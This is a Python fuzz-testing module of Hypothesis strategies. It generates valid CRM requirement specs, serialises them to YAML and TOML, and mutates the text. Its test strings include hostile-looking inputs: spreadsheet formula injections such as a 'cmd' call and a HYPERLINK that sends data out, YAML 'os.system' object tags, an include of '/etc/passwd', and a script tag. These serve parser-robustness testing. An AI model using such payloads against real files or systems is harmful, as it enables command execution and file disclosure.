"""Hypothesis strategies for the fuzz tests: valid specs, their YAML/TOML text, and mutations.

`valid_specs()` draws a schema-valid spec as plain Python data (every section, consistent
ids and references) whose free text is anything Unicode allows: accents, emoji, RTL
scripts, bidi overrides, control characters, NEL / LS / PS, spreadsheet formulas, YAML and
TOML look-alikes, very long strings; numbers are huge, dates odd. `to_yaml()` and
`to_toml()` serialise it (escaping only what each format requires, so what crmreq reads
back must equal what was drawn). `mutations()` breaks a text the ways people and editors
do: truncation, deleted / duplicated / swapped lines, re-indentation, wrong types, stray
syntax, random bytes.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from functools import lru_cache

from hypothesis import strategies as st

from crmreq.values.placeholders import placeholder


@lru_cache(maxsize=1)
def core_plugins():
    """Built-in rules and exporters only: third-party plugins installed in the environment are
    disabled (they have their own tests); answers (plugins, names of the disabled ones)."""
    from crmreq.plugins import load_plugins

    everything = load_plugins()
    others = frozenset(name for name, info in everything.infos.items() if info.source != "built-in")
    plugins = load_plugins(disabled=others)
    assert not plugins.errors, plugins.errors
    return plugins, others


# -- text ---------------------------------------------------------------------------------

SPECIAL_TEXTS = [
    "Fiche client affichée en moins de 2 s", "Relance des devis à J+7 — « indispensable »",
    "L'équipe ADV saisit la commande", "Ça coûte 1 500 € HT / mois", "œuvre, Œdipe, straße, ﬁ ligature",
    "مرحبا بالعالم — نظام إدارة العملاء", "שלום עולם", "\u202eevil\u202c text", "a\u200bb\u200dc\ufeffd",
    "🚀👩🏽‍💻🇫🇷 emoji", "e\u0301 combining", "日本語のテキスト", "Ελληνικά", "ру́сский",
    "=1+1", "+1+1", "-2", "@SUM(1,1)", "\t=cmd|' /C calc'!A0", "\r=1", '=HYPERLINK("http://x.invalid/?"&A1,"x")',
    "# crmreq: ignore[S001]", "x # crmreq: ignore[W001]", "key: value", "- item", "[a, b]", "{a: 1}",
    "&anchor", "*alias", "!!python/object/apply:os.system", "%YAML 1.1", "---", "...", "|", ">-",
    "'single'", '"double"', "back\\slash", "tab\there", "line\nbreak", "cr\rlf\r\n", "nel\x85ls\u2028ps\u2029",
    "nul\x00byte", "bell\a\x1b[31mred\x1b[0m", "\x7f\x9f", "\ufffe\uffff", "\U0010ffff", "null", "~", "true",
    "no", "007", "1.10", "+33612345678", "1e3", "0x1F", ".inf", "2025-02-30", "  leading and trailing  ",
    "trailing:", "a: b: c", "[[features]]", 'x = "y"', "\"\"\"", "'''", "<script>alert(1)</script>",
    "| pipe | table |", "end", "graph TD; A-->B", "a & b < c > d", "${HOME}", "{{ jinja }}", "%s %d",
    "rapide, intuitif, etc., si possible, et/ou", "",
]

_ACCENTED = "abcdefghijklmnopqrstuvwxyzàâäçéèêëîïôöùûüÿœæ ABCÉÈÀÇŒ'’-,.;:!?«»0123456789€%"
_ANY = st.characters(blacklist_categories=("Cs",))  # every code point a str can hold in UTF-8


@lru_cache(maxsize=None)  # strategies are immutable: build each once
def texts(max_size: int = 40):
    """Texts a valid spec may hold: not a placeholder (`?`, `NA`…), which reads as a missing value."""
    return st.one_of(
        st.text(_ANY, max_size=max_size),
        st.text(st.sampled_from(_ACCENTED), min_size=1, max_size=2 * max_size),
        st.sampled_from(SPECIAL_TEXTS),
        st.lists(st.sampled_from(SPECIAL_TEXTS), min_size=2, max_size=4).map(" ".join),
    ).filter(lambda text: placeholder(text) is None)


@lru_cache(maxsize=None)
def long_texts():
    """Very long strings: 1,000 to 20,000 characters, some a single word, some with line breaks."""
    units = st.sampled_from(["é", "ab ", "🚀", "مرحبا ", "x" * 97 + "\n", "Relance du devis. "])
    return st.builds(lambda unit, n: (unit * (n // len(unit) + 1))[:n], units, st.integers(1_000, 20_000))


@lru_cache(maxsize=None)
def some_text(max_size: int = 40):
    short = texts(max_size)
    return st.one_of(short, short, short, short, short, short, short, short, short, long_texts())


# ids: plain-looking ones, and some that YAML would resolve to something else if unquoted
TRICKY_IDS = ["007", "1.10", "+33612345678", "1e3", "2025-01-02", "true", "0x1F", "id with space", "é-ça",
              "🚀", "=1+1", "a:b", "#x", "-x", "ID/1"]


@lru_cache(maxsize=None)
def ids():
    plain = st.from_regex(r"[A-Za-z][A-Za-z0-9_-]{0,10}", fullmatch=True).filter(lambda i: placeholder(i) is None)
    return st.one_of(plain, plain, plain, st.sampled_from(TRICKY_IDS))


PRIORITIES = ["must", "should", "could", "wont", "indispensable", "important", "confort", "Must-have",
              "INDISPENSABLE", "won't have", "Confort", "should_have"]
MODULES = ["crm", "sales", "marketing", "support", "analytics", "mobility", "integration", "admin", "x-custom"]
KINDS = ["crm", "erp", "ecommerce", "billing", "email", "calendar", "telephony", "marketing", "support",
         "website", "spreadsheet", "other"]
NFR_CATEGORIES = ["performance", "availability", "security", "access_control", "audit", "backup", "reversibility",
                  "scalability", "usability", "accessibility", "localisation", "mobility", "hosting", "support",
                  "interoperability"]
QUANTITY_TEXTS = ["30 %", "2 s", "12000 rows", "99,9 %", "< 2 s", "4 h par semaine", "1 500 €", "0", "-5 %"]
DEADLINES = ["go-live + 3 months", "T+6 mois", "3 mois après le lancement", "end of Q1 after go-live",
             "dans 6 mois", "within 6 months", "12 mois après la mise en production"]

INT64 = 2 ** 63 - 1


@lru_cache(maxsize=None)
def big_ints(toml: bool, minimum: int | None = None):
    """Huge numbers for YAML (up to 300 digits), 64-bit ones for TOML (its integer range)."""
    bound = INT64 if toml else 10 ** 300
    low = -bound if minimum is None else minimum
    return st.one_of(st.integers(low, 100), st.integers(low, bound),
                     st.sampled_from([v for v in (0, 1, bound, 10 ** 18, 2 ** 53 + 1) if v >= low]))


@lru_cache(maxsize=None)
def numbers(toml: bool, minimum: int | None = None):
    floats = st.floats(allow_nan=False, allow_infinity=False, min_value=minimum)
    return st.one_of(big_ints(toml, minimum), floats)


@lru_cache(maxsize=None)
def dates(sane: bool = False):
    """Any date (year 1 to 9999), or with `sane` one between 1990 and 2060: the DOCX exporter
    draws a Gantt chart whose cost grows with the span of the dates (see test_fuzz_exports)."""
    if sane:
        return st.one_of(st.dates(dt.date(1990, 1, 1), dt.date(2060, 12, 31)), st.just(dt.date(2024, 2, 29)))
    return st.one_of(st.dates(), st.sampled_from([dt.date(1, 1, 1), dt.date(9999, 12, 31), dt.date(2024, 2, 29)]))


@lru_cache(maxsize=None)
def quantities(toml: bool):
    mapping = st.fixed_dictionaries({"value": numbers(toml)}, optional={"unit": texts(15)})
    return st.one_of(mapping, st.sampled_from(QUANTITY_TEXTS))


def _unique(draw, strategy, count):
    return draw(st.lists(strategy, min_size=count, max_size=count, unique=True))


@st.composite
def valid_specs(draw, toml: bool = False, sane_dates: bool = False):
    """A schema-valid spec (plain data), every section present; ids unique across the spec.
    `sane_dates`: every date between 1990 and 2060 (for the exporters' Gantt chart)."""
    dates_ = dates(sane_dates)
    counts = {k: draw(st.integers(1, 3)) for k in ("stakeholders", "teams", "objectives", "systems", "objects",
                                                    "flows", "processes", "features", "nfr", "migration")}
    all_ids = _unique(draw, ids(), sum(counts.values()) + 6)
    pool = iter(all_ids)
    take = {k: [next(pool) for _ in range(n)] for k, n in counts.items()}
    purpose_id, phase_id, criterion_id, demo_id, crm_id = (next(pool) for _ in range(5))
    text = lambda n=40: draw(some_text(n))  # noqa: E731
    short = lambda: draw(texts(20))  # noqa: E731
    systems = [crm_id] + take["systems"]

    spec = {
        "crmreq": 1,
        "project": {"name": text(), "company": text(), "lang": draw(st.sampled_from(["fr", "en"])),
                    "version": short(), "date": draw(dates_), "confidentiality": text(),
                    "authors": draw(st.lists(texts(20), max_size=3))},
        "context": {"history": text(200), "situation": {"headcount": draw(big_ints(toml, 0)),
                                                        "sites": draw(st.lists(texts(20), max_size=3)),
                                                        "growth": text(), "notes": text()},
                    "challenges": draw(st.lists(some_text(60), max_size=3))},
        "stakeholders": [{"id": i, "name": text(), "role": short(), "email": short()} for i in take["stakeholders"]],
        "teams": [{"id": i, "name": text(), "size": draw(big_ints(toml, 0)), "mobile": draw(st.booleans()),
                   "current_tools": draw(st.lists(texts(15), max_size=2)), "phase": draw(st.one_of(
                       st.integers(0, 9), texts(10)))} for i in take["teams"]],
        "objectives": [{"id": i, "title": text(), "pain": text(), "metric": draw(quantities(toml)),
                        "baseline": draw(quantities(toml)), "target": draw(quantities(toml)),
                        "deadline": draw(st.one_of(dates_, st.sampled_from(DEADLINES), texts(30))),
                        "owner": draw(st.sampled_from(take["stakeholders"])),
                        "priority": draw(st.sampled_from(PRIORITIES))} for i in take["objectives"]],
        "systems": [{"id": i, "name": text(), "kind": "crm" if i == crm_id else draw(st.sampled_from(KINDS)),
                     "hosting": draw(st.sampled_from(["saas", "on_premise"])), "location": short(),
                     "interfaces": draw(st.lists(st.sampled_from(["api", "file", "webhook", "none"]), max_size=3)),
                     "keep": draw(st.booleans())} for i in systems],
        "objects": [{"id": i, "name": text(), "personal_data": draw(st.booleans()),
                     "fields": draw(st.lists(texts(15), max_size=3))} for i in take["objects"]],
        "flows": [{"id": i, "from": draw(st.sampled_from(systems)), "to": crm_id,
                   "direction": draw(st.sampled_from(["one_way", "two_way"])),
                   "objects": draw(st.lists(st.sampled_from(take["objects"]), min_size=1, max_size=2)),
                   "frequency": draw(st.sampled_from(["realtime", "hourly", "daily", "on_event", "manual"])),
                   "mechanism": draw(st.sampled_from(["api", "file", "webhook", "manual"])), "trigger": text(),
                   "master": crm_id} for i in take["flows"]],
        "processes": [{"id": i, "name": text(), "teams": draw(st.lists(st.sampled_from(take["teams"]), max_size=2)),
                       "priority": draw(st.sampled_from(PRIORITIES)), "phase": draw(st.integers(1, 3))}
                      for i in take["processes"]],
        "features": [{"id": i, "module": draw(st.sampled_from(MODULES)), "title": text(), "scenario": text(300),
                      "teams": draw(st.lists(st.sampled_from(take["teams"]), max_size=2)),
                      "priority": draw(st.sampled_from(PRIORITIES)), "phase": draw(st.one_of(st.integers(1, 3),
                                                                                             texts(10))),
                      "objectives": draw(st.lists(st.sampled_from(take["objectives"]), max_size=2)),
                      "acceptance": text()} for i in take["features"]],
        "nfr": [{"id": i, "category": draw(st.sampled_from(NFR_CATEGORIES)), "statement": text(100),
                 "metric": draw(quantities(toml)), "priority": draw(st.sampled_from(PRIORITIES))}
                for i in take["nfr"]],
        "rgpd": {"data_location": short(), "rights": draw(st.lists(st.sampled_from(
            ["access", "rectification", "erasure", "portability", "objection", "restriction"]), max_size=6)),
            "processor_agreement": draw(st.booleans()), "dpo": draw(st.one_of(st.booleans(), texts(20))),
            "security_measures": draw(st.lists(texts(30), max_size=2)), "breach_notification": text(),
            "consent": {"collection": text(), "proof": text(), "withdrawal": text()},
            "retention": {"prospects": text(), "contacts": text()},
            "purposes": [{"id": purpose_id, "name": text(), "legal_basis": draw(st.sampled_from(
                ["consent", "contract", "legal_obligation", "legitimate_interest"])),
                "objects": draw(st.lists(st.sampled_from(take["objects"]), max_size=2)), "retention": text()}]},
        "migration": [{"id": i, "name": text(), "system": draw(st.sampled_from(systems)), "format": short(),
                       "tables": draw(st.lists(texts(15), max_size=2)), "volume": draw(quantities(toml)),
                       "cleaning": text(), "objects": draw(st.lists(st.sampled_from(take["objects"]), max_size=2))}
                      for i in take["migration"]],
        "budget": {"currency": draw(st.sampled_from(["EUR", "€", "USD", "CHF"])), "lines": [
            {"category": draw(st.sampled_from(["licences", "setup", "integration", "migration", "training",
                                               "support", "other"])), "label": text(),
             "amount": draw(numbers(toml)), "recurrence": draw(st.sampled_from(["one_off", "monthly", "yearly"]))}
            for _ in range(draw(st.integers(1, 3)))]},
        "timeline": {"go_live": draw(dates_), "phases": [{"id": phase_id, "name": text(),
                                                          "duration": draw(st.one_of(texts(15), st.sampled_from(
                                                              ["4-6 weeks", "6 semaines", "3 mois"]),
                                                              st.integers(0, 100))),
                                                          "start": draw(dates_),
                                                          "actions": draw(st.lists(texts(20), max_size=2))}]},
        "consultation": {"deliverables": draw(st.lists(texts(30), max_size=2)),
                         "documents": draw(st.lists(texts(30), max_size=2)), "deadline": draw(dates_),
                         "criteria": [{"id": criterion_id, "name": text(), "weight": draw(numbers(toml, 0)),
                                       "eliminatory": draw(st.booleans())}],
                         "demos": [{"id": demo_id, "title": text(), "steps": draw(st.lists(texts(30), max_size=2)),
                                    "features": draw(st.lists(st.sampled_from(take["features"]), max_size=2))}]},
    }
    if draw(st.booleans()):
        spec["x-notes"] = {"free": text(), "nested": [text(), {"deep": short()}]}
    return spec


# -- serialisation ------------------------------------------------------------------------------

# YAML 1.2 printable set, minus the characters YAML 1.1 (libyaml) reads as line breaks or BOM
_YAML_PLAIN_OK = re.compile(r"[A-Za-z][A-Za-z0-9 _éèàçùâêîôûœ'’.-]*")
_YAML_RESERVED = re.compile(r"(?i)^(?:y|n|yes|no|on|off|true|false|null|~|\.inf|\.nan)$")
_NUMBERISH = re.compile(r"^[-+.0-9]")


_YAML_ESCAPE = re.compile("[\"\\\\\t\x00-\x1f\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]")


def _yaml_escape(match) -> str:
    ch = match.group()
    if ch in '"\\':
        return "\\" + ch
    if ch == "\t":
        return "\\t"
    code = ord(ch)
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def yaml_quote(text: str) -> str:
    """A double-quoted YAML scalar: printable characters as they are, the rest escaped (including
    NEL, LS, PS and BOM, which YAML 1.1 readers such as libyaml take for line breaks)."""
    return '"' + _YAML_ESCAPE.sub(_yaml_escape, text) + '"'


def yaml_scalar(value, style: int = 0) -> str:
    """`style` 0: quote text unless clearly plain; 1: quote always; 2: plain even for 007-like ids
    (to_yaml uses 2 only for ids and references)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value) if isinstance(value, float) else str(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if style == 2 and value in TRICKY_IDS[:7]:
        return value  # plain: YAML resolves it to a number, date or bool; crmreq must keep the text
    if style != 1 and _YAML_PLAIN_OK.fullmatch(value) and not _YAML_RESERVED.match(value) \
            and not value.endswith(" ") and ": " not in value and " #" not in value:
        return value
    return yaml_quote(value)


# where style 2 writes `007`-like ids unquoted: crmreq must keep them as written (schema: string)
REFERENCE_KEYS = {"id", "owner", "from", "to", "master", "system", "teams", "objects", "objectives", "features"}


def to_yaml(data: dict, style: int = 0, flow_lists: bool = False, comments: bool = False) -> str:
    """Block-style YAML; `col` is the column of the key that owns `value`."""
    lines: list[str] = []

    def block(value, col: int, key_line: str, key: str = ""):
        if isinstance(value, dict):
            if not value:
                lines.append(f"{key_line} {{}}")
                return
            lines.append(key_line)
            for k, v in value.items():
                block(v, col + 2, " " * (col + 2) + f"{k}:", k)
        elif isinstance(value, list):
            if not value:
                lines.append(f"{key_line} []")
            elif flow_lists and all(not isinstance(v, (dict, list)) for v in value):
                lines.append(f"{key_line} [" + ", ".join(yaml_scalar(v, 1) for v in value) + "]")
            else:
                lines.append(key_line)
                for item in value:
                    if isinstance(item, dict) and item:
                        for n, (k, v) in enumerate(item.items()):
                            head = " " * (col + 2) + "- " if n == 0 else " " * (col + 4)
                            block(v, col + 4, f"{head}{k}:", k)
                            if comments and n == 0:
                                lines.append(" " * (col + 4) + "# « commentaire » crmreq ignore[S001] (not a directive)")
                    elif isinstance(item, (dict, list)):
                        lines.append(" " * (col + 2) + "- " + ("{}" if isinstance(item, dict) else "[]"))
                    else:
                        item_style = style if style != 2 or key in REFERENCE_KEYS else 0
                        lines.append(" " * (col + 2) + "- " + yaml_scalar(item, item_style))
        else:
            key_style = style if style != 2 or key in REFERENCE_KEYS else 0
            lines.append(f"{key_line} {yaml_scalar(value, key_style)}")

    for key, value in data.items():
        block(value, 0, f"{key}:")
    return "\n".join(lines) + "\n"


_TOML_ESCAPE = re.compile("[\"\\\\\x00-\x08\x0a-\x1f\x7f]")


def _toml_escape(match) -> str:
    ch = match.group()
    return "\\" + ch if ch in '"\\' else f"\\u{ord(ch):04x}"


def toml_string(text: str) -> str:
    return '"' + _TOML_ESCAPE.sub(_toml_escape, text) + '"'


def toml_value(value) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        text = repr(value)
        return text if any(c in text for c in ".e") else text + ".0"
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return toml_string(value)
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{_toml_key(k)} = {toml_value(v)}" for k, v in value.items()) + " }"
    raise TypeError(type(value))


def _toml_key(key: str) -> str:
    return key if re.fullmatch(r"[A-Za-z0-9_-]+", key) else json.dumps(key)


def to_toml(data: dict) -> str:
    out: list[str] = []

    def is_table_list(v):
        return isinstance(v, list) and v and all(isinstance(i, dict) for i in v)

    def body(table: dict, path: str, in_array: bool):
        simple = {k: v for k, v in table.items() if not (isinstance(v, dict) or is_table_list(v)) or in_array}
        for k, v in simple.items():
            out.append(f"{_toml_key(k)} = {toml_value(v)}")
        if in_array:
            return
        for k, v in table.items():
            if isinstance(v, dict):
                out.append("")
                out.append(f"[{path}{_toml_key(k)}]")
                body(v, f"{path}{_toml_key(k)}.", False)
        for k, v in table.items():
            if is_table_list(v):
                for item in v:
                    out.append("")
                    out.append(f"[[{path}{_toml_key(k)}]]")
                    body(item, f"{path}{_toml_key(k)}.", True)

    body(data, "", False)
    return "\n".join(out) + "\n"


# -- mutations ----------------------------------------------------------------------------------

STRAY = ["\n", ": ", "- ", "[", "]", "{", "}", "&a ", "*a", "*undefined", "!!python/object/apply:os.system ['x']",
         "<<: *a\n", "%YAML 1.1\n", "---\n", "\n...\n", "'", '"', "\t", "\r", "\x85", "\u2028", "\ufeff", "\x00",
         "#", "? ", "| ", "> ", "!foo ", "!!binary ", "[[", "]]", "= ", '"""', "'''", "\\", "\\u12", "0x", "1e999999",
         "9" * 1200, "{a: {b: {c: [[[[[[[[]]]]]]]]}}}", "\n  - id: dup\n", "crmreq: 2\n", "include: ['../x.yaml']\n",
         "include:\n  - /etc/passwd\n  - '**/*.yaml'\n  - '['\n", "x-é: \U0001f680\n", "features: 3\n", "rgpd: []\n"]
WRONG_VALUES = ["[1, 2]", "{a: 1}", "123", "true", "null", "", "2025-02-30", "-1", "1e400", "!!set {a}",
                '"text"', "[", "*a", "&a x", "0o17", "~", '{"value": "x"}', "[[1], [2]]", "9" * 50]


@st.composite
def mutated(draw, text: str) -> bytes:
    """Between one and four mutations of `text`, as bytes (some break UTF-8 on purpose)."""
    lines = text.split("\n")
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["truncate", "delete", "duplicate", "swap", "indent", "stray", "wrong", "bytes",
                                   "stray", "wrong"]))
        n = len(lines)
        i = draw(st.integers(0, max(n - 1, 0)))
        if op == "truncate":
            joined = "\n".join(lines)
            lines = joined[: draw(st.integers(0, len(joined)))].split("\n")
        elif op == "delete" and n:
            del lines[i]
        elif op == "duplicate" and n:
            lines.insert(i, lines[i])
        elif op == "swap" and n > 1:
            j = draw(st.integers(0, n - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "indent" and n:
            delta = draw(st.sampled_from([-4, -2, -1, 1, 2, 3]))
            lines[i] = (" " * delta + lines[i]) if delta > 0 else lines[i][-delta:]
        elif op == "stray" and n:
            col = draw(st.integers(0, len(lines[i])))
            lines[i] = lines[i][:col] + draw(st.sampled_from(STRAY)) + lines[i][col:]
        elif op == "wrong" and n:
            line = lines[i]
            for sep in (": ", " = "):
                if sep in line:
                    head = line.split(sep, 1)[0]
                    lines[i] = head + sep + draw(st.sampled_from(WRONG_VALUES))
                    break
        elif op == "bytes":
            data = "\n".join(lines).encode("utf-8")
            at = draw(st.integers(0, len(data)))
            junk = draw(st.binary(min_size=1, max_size=8))
            data = data[:at] + junk + data[at:]
            return data  # raw bytes: stop here
    return "\n".join(lines).encode("utf-8")
